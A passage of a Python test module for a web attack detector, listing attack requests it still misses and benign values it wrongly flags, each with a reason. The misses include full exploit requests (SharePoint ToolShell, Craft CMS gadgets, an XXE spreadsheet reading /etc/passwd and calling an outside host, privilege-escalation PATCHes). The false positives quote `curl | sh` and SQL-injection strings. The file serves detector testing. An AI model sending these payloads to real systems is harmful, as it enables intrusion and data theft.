"""The blind batches (written by people who never saw the detectors): what is caught and flagged, exactly."""
from __future__ import annotations

import pytest

from sensor.detect import verdict
from tests.detect.blind_attacks_a import BLIND_ATTACKS_A
from tests.detect.blind_attacks_b import BLIND_ATTACKS_B
from tests.detect.blind_attacks_c import BLIND_ATTACKS_C
from tests.detect.blind_attacks_d import BLIND_ATTACKS_D
from tests.detect.blind_attacks_e import BLIND_ATTACKS_E
from tests.detect.blind_attacks_f import BLIND_ATTACKS_F
from tests.detect.blind_attacks_g import BLIND_ATTACKS_G
from tests.detect.blind_attacks_h import BLIND_ATTACKS_H
from tests.detect.blind_attacks_j import BLIND_ATTACKS_J
from tests.detect.blind_attacks_k import BLIND_ATTACKS_K
from tests.detect.blind_attacks_l import BLIND_ATTACKS_L
from tests.detect.blind_attacks_m import BLIND_ATTACKS_M
from tests.detect.blind_attacks_n import BLIND_ATTACKS_N
from tests.detect.blind_attacks_p import BLIND_ATTACKS_P
from tests.detect.blind_attacks_q import BLIND_ATTACKS_Q
from tests.detect.blind_benign import BLIND_BENIGN
from tests.detect.blind_benign_2 import BLIND_BENIGN_2
from tests.detect.blind_benign_3 import BLIND_BENIGN_3
from tests.detect.blind_benign_4 import BLIND_BENIGN_4
from tests.detect.blind_benign_5 import BLIND_BENIGN_5
from tests.detect.blind_benign_6 import BLIND_BENIGN_6
from tests.detect.blind_benign_7 import BLIND_BENIGN_7
from tests.detect.blind_benign_8 import BLIND_BENIGN_8
from tests.detect.wild_benign import build_request

# First measurements before any fix they prompted (bench/blind_bench.py, BENCHMARKS.md "Blind batches"): batches a, b
# and benign (15:40 UTC) 427 of 439 attacks caught, 27 of 307 benign values flagged; batches c, d and benign_2 (16:00,
# after round 5) 365 of 401, 32 of 302; batches e, f and benign_3 (stop 17, 18:59 UTC, the session's starting engine)
# 527 of 553, 2 of 337; batches g, h, j and benign_4 (this session's start, engine 7ddeb55) 681 of 689, 13 of 315
# (14 as written: one OData path sent spaces raw in its request line, percent-encoded since as a client sends it);
# batches k, l, m and benign_5 (the same session, engine 7ddeb55) 533 of 571, 26 of 359; batches p, q and benign_6,
# 7, 8 (stop 19, engine ddc5840, the query strings of path entries escaped as a browser sends them) 452 of 468, 93 of
# 785; batch n (the same engine) 143 of 171.
# What is left after the fixes is listed here, each with the reason it stays;
# the tests fail when anything else changes in either direction.
KNOWN_MISS: dict[str, str] = {
    'raw::POST /account/password-reset HTTP/1.1\r\nHost: attacker-mail.net\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nemail=victim%40shop.example':
        "Host poisoning of a password reset: attacker-mail.net is a valid host name and nothing in the request contradicts it; only the site's own names can — pin them with a vpatch rule on [header, HOST] (docs/rules.md)",
    'body:application/x-www-form-urlencoded:wp-admin/admin-ajax.php:action=wpgdprc_process_action&security=&data={"type":"save_setting","append":false,"option":"users_can_register","value":"1"}':
        "a plugin's missing authorisation (WP GDPR Compliance): the request is the one an administrator's settings page sends; nothing in it is a payload",
    'path::/server-status?auto':
        "Apache's status page is what monitoring polls; an owner-used console stays to the dirbust windows and a per-site rule",
    'path::/manager/html':
        "Tomcat's manager console: its owners use it; a probe for it is one request of a directory scan (streams dirbust window)",
    'path::/solr/admin/cores?wt=json':
        "Solr's core admin API is how its owners manage it; exposure is a deployment matter for a per-site rule",
    'path::/console/login/LoginForm.jsp':
        "WebLogic's admin console login page: owner-used, see the Tomcat manager",
    'raw::GET /api/v1/users/1 HTTP/1.1\r\nHost: shop.example\r\nX-HTTP-Method-Override: DELETE\r\n\r\n':
        'a method override to DELETE on a GET: the same shape as a REST client behind a proxy that passes only GET and POST (blind_benign_5 sends X-HTTP-Method-Override: PATCH on a GET); a site that takes no overrides refuses them with a rule (tests/detect/test_round6_protocol.py)',
    'raw::POST /api/v1/users/1?_method=DELETE HTTP/1.1\r\nHost: shop.example\r\nX-Method-Override: DELETE\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n\r\n':
        '`_method=DELETE` with X-Method-Override: how Rails, Laravel and SharePoint clients send DELETE through proxies; CRS flags it only at PL2; a rule for sites without overrides',
    'path::/moveitisapi/moveitisapi.dll?action=m2':
        "MOVEit's own clients call this ISAPI; the exploit is its folder_add_by_path transaction header (caught) — the path with action=m2 alone is a vpatch for MOVEit sites",
}
KNOWN_FP: dict[str, str] = {
    'form:body:My script breaks on filenames with spaces:\n\n```bash\nfor f in $(ls *.mp3); do\n  ffmpeg -i "$f" "${f%.mp3}.ogg"\ndone\n```\n\nI know parsing `ls` is bad, but what should I use instead?':
        'fenced shell code in a forum post: three backticks are an empty substitution, the $(...) in it runs in a shell exactly like an attack wrapped the same way; a Q&A site needs a rule (docs/rules.md)',
    'form:body:The button does nothing in Firefox, Chrome is fine:\n\n```html\n<button id="save">Save</button>\n<script>\n  document.getElementById(\'save\').addEventListener(\'click\', () => {\n    fetch(\'/api/notes\', { method: \'POST\', body: JSON.stringify(note) });\n  });\n</script>\n```\n\nThe console is empty. What am I doing wrong?':
        'a <script> element in a fenced HTML block: markup runs wherever the post is not rendered as Markdown; a programming forum needs a rule',
    "form:body:Is this enough to be safe from SQL injection, or do I still need to escape the email?\n\n```php\n$stmt = $pdo->prepare('SELECT id, name FROM users WHERE email = ?');\n$stmt->execute([$_POST['email']]);\n$user = $stmt->fetch();\n```":
        'PHP code quoting $_POST beside a SELECT in a forum post (php:superglobal, xss:js_sink): code by design; a programming forum needs a rule',
    'json:text:```\nkubectl rollout restart deploy/checkout -n payments\n```\nthat fixed it 🙌':
        'a command in a fence in a chat message: runs in a shell as it stands (see the first entry)',
    'json::{"name": "nightly-backup", "cron": "0 3 * * *", "script": "pg_dump --format=custom \\"$DATABASE_URL\\" > backup-$(date +%F).dump && aws s3 cp backup-*.dump s3://acme-backups/db/"}':
        "a CI job's shell script: runs in a shell as it stands (pg_dump ... $(date) && aws ...); a CI service needs a rule",
    'json::{"name": "@acme/ui-kit", "version": "3.0.0-beta.2", "dependencies": {"react": "^18.2.0 || ^19.0.0", "clsx": "~2.1.0"}, "peerDependencies": {"react-dom": ">=18 <20"}, "scripts": {"build": "tsc -p tsconfig.build.json && vite build", "prepublishOnly": "npm run build && npm test -- --run"}}':
        'package.json scripts are shell command lines by design (npm run build && npm test); a package registry needs a rule',
    'json:readme:## Usage\n\n```sh\nnpx create-tiny-app my-app --template ts\ncd my-app && npm start\n```\n\n> **Note**: requires Node >= 18.':
        'fenced sh block in a README: runs in a shell as written (cd my-app && npm start)',
    'form:wpTextbox1:<syntaxhighlight lang="sql">\nSELECT name, COUNT(*) FROM members GROUP BY name HAVING COUNT(*) > 1;\n</syntaxhighlight>\nThis query finds duplicate member names.':
        'a whole SELECT in wiki source: the same text is a subquery injection; a wiki with code samples needs a rule',
    "json:source:%%sql\nSELECT region, SUM(revenue) AS revenue\nFROM sales\nWHERE order_date >= '2024-01-01'\nGROUP BY region\nORDER BY revenue DESC\nLIMIT 10;":
        'a notebook SQL cell: a whole SELECT by design; a notebook service needs a rule',
    "json:source:%%bash\nset -euo pipefail\nwc -l data/*.csv | sort -n | tail -5\nls -lh data/ | grep -v '^total'":
        'a notebook bash cell: shell by design',
    'json:source:import os, subprocess\nout = subprocess.run(["git", "log", "-1", "--format=%h %s"], capture_output=True, text=True)\nprint(out.stdout)':
        'a notebook Python cell calling subprocess.run with a literal argument list: exactly what an exec() payload looks like',
    'json:source:%env AWS_DEFAULT_REGION=eu-west-1\n!aws s3 ls s3://open-data-bucket/2024/ --no-sign-request | head':
        'notebook shell magics (!aws ... | head): shell by design',
    "json:source:import sqlite3\ncon = sqlite3.connect('chinook.db')\ncur = con.execute('SELECT Name FROM sqlite_master WHERE type = ?', ('table',))\ncur.fetchall()":
        'a notebook cell with a SELECT on sqlite_master (a catalog table attacks enumerate): code by design',
    "body:text/plain:tap/sync:SELECT TOP 100 source_id, ra, dec, phot_g_mean_mag\nFROM gaiadr3.gaia_source\nWHERE 1=CONTAINS(POINT('ICRS', ra, dec), CIRCLE('ICRS', 266.41, -29.00, 0.1))\nAND phot_g_mean_mag < 15\nORDER BY phot_g_mean_mag":
        'an ADQL query to an astronomy TAP service: a whole SELECT with 1=CONTAINS(...) by design; the service needs a rule',
    "json:question:What does the input ' OR 1=1 -- do when it is concatenated into a login query?":
        'a security quiz quoting the classic payload verbatim: the same text is the attack',
    "json:explanation:Parameterised queries send the SQL text and the data separately, so a value like O'Brien or 1; DROP TABLE is only ever treated as data.":
        'a security quiz quoting a stacked DROP TABLE: the same text is the attack',
    'form:markdown:## Install\n\n```\nnpm install --save my-lib\n```\n\n* **Fast** — under 2 kB\n* See [docs](https://example.com/docs)':
        'a command in a fenced block of a README: runs in a shell as written (see the first entry)',
    'body:text/yaml:workflows/validate:name: CI\non:\n  push:\n    branches: [main]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: ${{ matrix.node }}\n      - run: npm ci && npm test\n        env:\n          API_URL: ${{ secrets.STAGING_API_URL }}\n':
        "a CI workflow's `run: npm ci && npm test` step: shell by design (see the first entry); a CI service needs a rule",
    'form:command:npm run build -- --mode ${NODE_ENV}':
        'a command line with a variable in a field named command: runs in a shell as it stands',
    'form:markdown:## Setup\n\n```bash\npip install -r requirements.txt\nexport FLASK_APP=app.py\nflask run\n```\n\nThen open http://localhost:5000/':
        'a fenced bash block in a README (see the first entry)',
    'json:code_snippet:const total = items.reduce((sum, i) => sum + i.price * i.qty, 0);\nconsole.log(`Total: ${total.toFixed(2)}`);':
        'JavaScript calling console.log with a template literal: the exact shape of a node-serialize/eval probe; a code-sharing site needs a rule',
    "form:question:How do I write SELECT name FROM users WHERE created_at > '2024-01-01' ORDER BY name in Django's ORM?":
        'a whole SELECT … FROM … WHERE quoted in a question: the same text is a subquery injection',
    'json:comment:Tip: in bash, use "$(pwd)" instead of backticks, and quote "$@" when forwarding arguments.':
        '`"$(pwd)"` is the command substitution itself',
    'raw::PUT /api/v1/backups/db-2024-06-01.sql.gz HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: curl/8.5.0\r\nContent-Type: application/gzip\r\nContent-Length: 1048576\r\nExpect: 100-continue\r\n\r\n':
        'an upload to a dump name: the path alone reads as a backup probe; exempting PUT would also exempt writes to config names (settings.php, env.php) under the same rule; a backup API needs a rule',
}
# round 6 (batches n, p, q, benign 6-8): what the fixes left, each with its reason
KNOWN_MISS.update({
    'raw::POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx HTTP/1.1\r\nHost: sp.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0\r\nContent-Type: application/x-www-form-urlencoded\r\nReferer: /_layouts/SignOut.aspx\r\nContent-Length: 637\r\n\r\nMSOTlPn_Uri=http%3A%2F%2Fsp.example.com%2F_controltemplates%2F15%2FAclEditor.ascx&MSOTlPn_DWP=%3C%25%40+Register+Tagprefix%3D%22ScorecardClient%22+Namespace%3D%22Microsoft.PerformancePoint.Scorecards%22+Assembly%3D%22Microsoft.PerformancePoint.Scorecards.Client%2C+Version%3D16.0.0.0%2C+Culture%3Dneutral%2C+PublicKeyToken%3D71e9bce111e9429c%22+%25%3E%3Cscorecardclient%3Aexceldataset+CompressedDataTable%3D%22H4sIAAAAAAAEAO29B2AcSZYlJi9tynt%2FSvVK1%2BB0oQiAYBMk2JBAEOzBiM3mkuwdaUcjKasqgcplVmVdZhZAzO2dvPfee%2B%2B999577733ujudTif33%2F8%2FXGZkAWz2zkrayZ4hgKrIHz9%2BfB8%2FIorFrJ%22+DataTable-CaseSensitive%3Dtrue+runat%3D%22server%22%2F%3E':
        'SharePoint ToolShell (CVE-2025-53770): an ASP.NET control declaration posted to ToolPane.aspx with a relative Referer; the markup is what the page editor itself posts — a vpatch for SharePoint sites',
    'raw::PATCH /api/users/65f1c0a2e4b0d1a2b3c4d5e6 HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: */*\r\nContent-Type: application/merge-patch+json\r\nContent-Length: 40\r\nConnection: close\r\n\r\n{"$set":{"role":"admin","isAdmin":true}}':
        'mass assignment (a merge-patch setting `role: admin`): an authorisation flaw, no payload in the request',
    'raw::POST /api/users/me HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: */*\r\nContent-Type: application/json\r\nX-HTTP-Method-Override: PATCH\r\nContent-Length: 25\r\nConnection: close\r\n\r\n{"$set":{"role":"admin"}}':
        'mass assignment through a method override to PATCH: an authorisation flaw, no payload',
    'raw::PATCH /users/Hq3kT0v9sLcW2xYbN8mR.json HTTP/1.1\r\nHost: victim-app-default-rtdb.firebaseio.com\r\nContent-Type: application/json\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0 Safari/537.36\r\nContent-Length: 51\r\n\r\n{"role":"admin","plan":"enterprise","isStaff":true}':
        'Firebase rules that let a client write its own role: an authorisation flaw, no payload',
    'raw::POST /index.php HTTP/1.1\r\nHost: craft.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 233\r\n\r\naction=conditions/render&test[userCondition]=craft\\elements\\conditions\\users\\UserCondition&config={"name":"test[userCondition]","as xyz":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}':
        'Craft CMS Yii behaviour injection (CVE-2023-41892): `"as xyz":{"class":…FnStream}` is the framework\'s own config syntax; the gadget is named only in PHP class strings — a vpatch for Craft sites',
    'raw::POST /index.php?p=admin/actions/assets/generate-transform HTTP/1.1\r\nHost: craft.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/json\r\nX-CSRF-Token: 3uW2e8Q8pZ\r\nContent-Length: 195\r\n\r\n{"assetId":11,"handle":{"width":123,"height":123,"as session":{"class":"craft\\\\behaviors\\\\FieldLayoutBehavior","__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]],"_fn_close":"phpinfo"}}}':
        'Craft CMS generate-transform gadget (CVE-2024-56145 family): same config syntax as above',
    'raw::POST /p/u/doAuthentication.do HTTP/1.1\r\nHost: gw.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nConnection: keep-alive\r\nContent-Length: 5\r\n\r\nlogin':
        "Citrix/NetScaler doAuthentication.do overflow: a five-byte body, the exploit is the endpoint's missing length check",
    'raw::GET /cgi-bin/sslvpnclient?launchplatform= HTTP/1.1\r\nHost: sslvpn.example.com\r\nUser-Agent: python-requests/2.31.0\r\nCookie: swap=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n\r\n':
        'SonicWall sslvpnclient `swap` cookie: a base64 session value of the expected shape; product-specific',
    'path::/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1':
        'MobileIron/Ivanti EPMM API path (CVE-2023-35078): an ordinary API call of the product without credentials — authorisation, a vpatch',
    'raw::GET /ws/cli/open?cols=162&rows=100&local_access_token=1 HTTP/1.1\r\nHost: fgt.example.com\r\nUser-Agent: python-requests/2.31.0\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: thFz/fKwzu5wDEy0XO3fcw==\r\n\r\n':
        "FortiOS `/ws/cli/open` websocket with `local_access_token` (CVE-2024-55591): the product's own endpoint; a vpatch",
    'path::/gwtest/formssso?event=start&target=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA':
        'Citrix formssso `target=AAAA…` overflow probe: 260 letters in a query value; product-specific length, a vpatch',
    'raw::POST /webui/logoutconfirm.html?logon_hash=1 HTTP/1.1\r\nHost: router.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n\r\n':
        "Cisco IOS XE logoutconfirm `logon_hash=1` (CVE-2023-20198 probe): the product's own page; a vpatch",
    'raw::GET /human2.aspx HTTP/1.1\r\nHost: mft.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\nX-siLock-Comment: comment\r\nX-siLock-Step1: -1\r\n\r\n':
        'MOVEit LEMURLOOT webshell IOC headers (X-siLock-*): a compromise indicator of one product, for threat-intel rules',
    'raw::POST /app/rest/users/id:1/tokens/RPC2 HTTP/1.1\r\nHost: ci.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Length: 0\r\n\r\n':
        "TeamCity token endpoint under /RPC2 (CVE-2024-27198 variant): the path itself is the product's API; a vpatch",
    'path::/app?service=page/SetupCompleted':
        'Tapestry setup page (`/app?service=page/SetupCompleted`): an owner-used page of one product',
    'path::/api/index.php/v1/config/application?public=true':
        'Joomla `?public=true` (CVE-2023-23752): an API flag of the product, no payload; a vpatch',
    'raw::POST /api_jsonrpc.php HTTP/1.1\r\nHost: zabbix.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/json-rpc\r\nContent-Length: 96\r\n\r\n{"jsonrpc":"2.0","method":"user.login","params":{"username":"Admin","password":"zabbix"},"id":1}':
        'Zabbix default credentials (Admin/zabbix): a login with a weak password, no payload — left to brute-force windows',
    'raw::POST /SetupWizard.aspx/x HTTP/1.1\r\nHost: support.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 152\r\n\r\n__EVENTTARGET=&__EVENTARGUMENT=&__VIEWSTATE=%2FwEPDwUKLTcxMjQyMzE4NmRk&ctl00%24Main%24wizard%24StartNavigationTemplateContainerID%24StartNextButton=Next':
        "SysAid-style SetupWizard.aspx path trick: ASP.NET path info on the product's own page; a vpatch",
    'raw::POST /OA_HTML/configurator/UiServlet HTTP/1.1\r\nHost: ebs.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 422\r\n\r\nredirectFromJsp=1&getUiType=%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E%3Cinitialize%3E%3Cparam+name%3D%22init_was_saved%22%3Etest%3C%2Fparam%3E%3Cparam+name%3D%22return_url%22%3Ehttp%3A%2F%2F45.61.1.9%3A7777%3C%2Fparam%3E%3Cparam+name%3D%22ui_def_id%22%3E0%3C%2Fparam%3E%3Cparam+name%3D%22config_effective_usage_id%22%3E0%3C%2Fparam%3E%3Cparam+name%3D%22ui_type%22%3EApplet%3C%2Fparam%3E%3C%2Finitialize%3E':
        'Oracle EBS UiServlet (CVE-2025-61882): an XML parameter whose return URL the product fetches; product-specific, a vpatch',
    'raw::POST /WebInterface/function/ HTTP/1.1\r\nHost: ftp.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nCookie: currentAuth=31If; CrushAuth=1744144130787_5SPqhPXnqTaNfs5aPdTS7b3I1V31If\r\nContent-Length: 75\r\n\r\ncommand=exists&paths=<INCLUDE>users/MainUsers/groups.XML</INCLUDE>&c2f=31If':
        "CrushFTP `<INCLUDE>` server-side include of the product's own syntax: a vpatch for CrushFTP",
    'raw::POST /api/v1/imports/contacts HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0\r\nAccept: application/json\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Length: 1567\r\n\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="file"; filename="contacts.xlsx"\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\r\nPK\x03\x04\x14\x00\x00\x00\x00\x00\x00PaX\x0c\udc9d^\udc90\x18\x02\x00\x00\x18\x02\x00\x00\x13\x00\x00\x00[Content_Types].xml<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE Types [<!ENTITY xxe SYSTEM "http://x7k2.oast.fun/xlsx-ct">]>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>&xxe;</Types>PK\x03\x04\x14\x00\x00\x00\x00\x00\x00PaXӪ&\udca8\udcc2\x00\x00\x00\udcc2\x00\x00\x00\x0f\x00\x00\x00xl/workbook.xml<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>PK\x03\x04\x14\x00\x00\x00\x00\x00\x00PaX\udcc5 \udc90U\udcef\x00\x00\x00\udcef\x00\x00\x00\x14\x00\x00\x00xl/sharedStrings.xml<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>PK\x01\x02\x14\x03\x14\x00\x00\x00\x00\x00\x00PaX\x0c\udc9d^\udc90\x18\x02\x00\x00\x18\x02\x00\x00\x13\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\udc80\x01\x00\x00\x00\x00[Content_Types].xmlPK\x01\x02\x14\x03\x14\x00\x00\x00\x00\x00\x00PaXӪ&\udca8\udcc2\x00\x00\x00\udcc2\x00\x00\x00\x0f\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\udc80\x01I\x02\x00\x00xl/workbook.xmlPK\x01\x02\x14\x03\x14\x00\x00\x00\x00\x00\x00PaX\udcc5 \udc90U\udcef\x00\x00\x00\udcef\x00\x00\x00\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\udc80\x018\x03\x00\x00xl/sharedStrings.xmlPK\x05\x06\x00\x00\x00\x00\x03\x00\x03\x00\udcc0\x00\x00\x00Y\x04\x00\x00\x00\x00\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n':
        'XXE inside an uploaded .xlsx: the zip part of a multipart upload is not unpacked into points (binary files are not inspected)',
})
KNOWN_FP.update({
    'query:q:/etc/nginx/conf.d/default.conf':
        'a config path alone in a search box: the same value in a file parameter is a read of the nginx config; the point carries no parameter meaning',
    'query:search:C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config':
        'a Windows config path alone in a search box: see the nginx path',
    'form:description:Profile page 500s for every user after the soft-delete PR.\n\n<pre>\nActiveRecord::StatementInvalid: PG::UndefinedColumn: ERROR:  column users.deleted_at does not exist\nLINE 1: SELECT "users".* FROM "users" WHERE "users"."deleted_at" IS NULL AND "users"."id" = $1 LIMIT $2\n                                           ^\napp/models/concerns/soft_deletable.rb:12:in `block in <module:SoftDeletable>\'\napp/controllers/users_controller.rb:8:in `show\'\n</pre>\n\nNeed to run `bin/rails db:migrate` on prod.':
        'a Rails error log pasted with its whole SELECT: code by design (a whole SQL statement), an issue tracker needs a rule',
    'form:message:uname -a gives: Linux web01 5.15.0-97-generic #107-Ubuntu SMP Wed Feb 7 13:26:48 UTC 2024 x86_64 GNU/Linux':
        'command output quoted after the command (`uname -a gives: …`): the value starts with a command line that runs as it stands',
    'form:message:mysql  Ver 8.0.36-0ubuntu0.22.04.1 for Linux on x86_64 ((Ubuntu)) -- is that supported?':
        '`mysql  Ver …` starts with a command and its options: see `uname -a`',
    'form:message:Current php.ini on my plan:\nmemory_limit = 256M\nupload_max_filesize = 64M\nmax_execution_time = 60\ndisable_functions = exec,passthru,shell_exec,system,proc_open,popen\nCan you raise upload_max_filesize?':
        'a php.ini paste: the same directives are what PHP_VALUE / .user.ini injection carries',
    'form:comment:Backups run from cron: 0 2 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1':
        'a crontab line with a redirect into /var/log: shell by design',
    'json:body_html:<p>Restart the web server and follow the error log:</p><pre><code class="language-bash">sudo systemctl restart nginx\nsudo tail -f /var/log/nginx/error.log</code></pre>':
        'fenced shell in a knowledge-base article (sudo systemctl …): shell by design',
    "json:content:## Troubleshooting\n\nIf you see `Error: EACCES: permission denied, open '/usr/local/lib/node_modules/.package-lock.json'`, don't use `sudo npm`; fix the prefix instead:\n\n```sh\nmkdir ~/.npm-global\nnpm config set prefix '~/.npm-global'\necho 'export PATH=~/.npm-global/bin:$PATH' >> ~/.profile\n```":
        'a fenced sh block in Markdown docs that appends to ~/.profile: shell by design (writing a shell profile is what a persistence payload does)',
    'json:content:PowerShell: `Get-ChildItem -Path C:\\inetpub\\logs\\LogFiles -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item`':
        'PowerShell in backticks after a `PowerShell:` label: a whole pipeline that runs as it stands',
    'json::{"type": "page", "title": "Runbook: restoring MySQL from backup", "space": {"key": "OPS"}, "body": {"storage": {"representation": "storage", "value": "<p>Run on the replica first:</p><ac:structured-macro ac:name=\\"code\\"><ac:parameter ac:name=\\"language\\">sql</ac:parameter><ac:plain-text-body><![CDATA[SELECT table_name, ROUND(data_length/1024/1024) AS mb FROM information_schema.tables WHERE table_schema = \'shop\' ORDER BY mb DESC;]]></ac:plain-text-body></ac:structured-macro>"}}, "version": {"number": 7, "message": "add size check"}}':
        'a Confluence runbook with a whole SQL statement in a code macro: code by design',
    'json::{"parent": {"database_id": "d9824bdc-8445-4327-be8b-5b47500af6ce"}, "properties": {"Name": {"title": [{"text": {"content": "Postmortem: 2024-03-12 checkout 502s"}}]}}, "children": [{"object": "block", "type": "code", "code": {"language": "shell", "rich_text": [{"type": "text", "text": {"content": "kubectl -n prod rollout undo deployment/checkout --to-revision=41"}}]}}]}':
        'a Notion code block of type shell (kubectl …): shell by design',
    'body:text/markdown:docs/pages/webhooks:# Webhooks\n\nWe POST JSON to your endpoint:\n\n```http\nPOST /hooks/acme HTTP/1.1\nHost: your-app.example\nContent-Type: application/json\nX-Acme-Signature: t=1710238542,v1=5257a869...\n\n{"event":"order.paid","id":"evt_123"}\n```\n\nRespond with `2xx` within 10 seconds.\n':
        'an HTTP example in a Markdown code fence: the same lines in a parameter are a header injection; the CRLF rule does not see fences',
    'body:text/markdown:docs/pages/cli:## Install\n\n```bash\ncurl -fsSL https://get.example.com/cli.sh | sh\n# or\nbrew install acme/tap/acme\n```\n\nThen `acme login --profile work`.\n':
        '`curl … | sh` in a Markdown install section: download-and-run by design',
    'json:body:Can we drop the `| bash` from the README? `curl -fsSL https://get.example.com | bash` scares people; show the download-then-verify steps instead.':
        '`curl … | bash` quoted in a review comment: the same text as an injected download into a shell',
    "json:body:```suggestion\n    if (!user || user.role !== 'admin') return res.status(403).end();\n```":
        "a JS review suggestion (`!user || user.role !== 'admin'`): `||` and a quote read as SQL logic; code by design",
    "json:body:Careful: `new Function('return ' + expr)` is basically eval. Could we use the existing `parseExpression()` AST walker?":
        "`new Function('return ' + expr)` named in a review: the code an injection would carry, punctuation and all",
    "json:body:Question: does `Runtime.getRuntime().exec(cmd)` here ever get user input? If not, fine, but let's add a comment.":
        '`Runtime.getRuntime().exec(cmd)` named in a review: see `new Function`',
    'json::{"query": "mutation IssueCreate($input: IssueCreateInput!) { issueCreate(input: $input) { success issue { id identifier url } } }", "variables": {"input": {"teamId": "9cfb482a-81e3-4154-b5b9-2c805e70a02d", "title": "Webhook retries hammer /hooks/stripe", "description": "Stripe retries on our `500`; handler should return `200` for already-processed `evt_` ids.\\n\\n```ts\\nif (await seen(event.id)) return res.sendStatus(200);\\n```", "priority": 2, "labelIds": ["f1a3b6c2-0d3e-4b0a-9a77-3c2b1d0e9f88"]}}}':
        'a Markdown code block in a GraphQL issue description read as stacked statements: code by design',
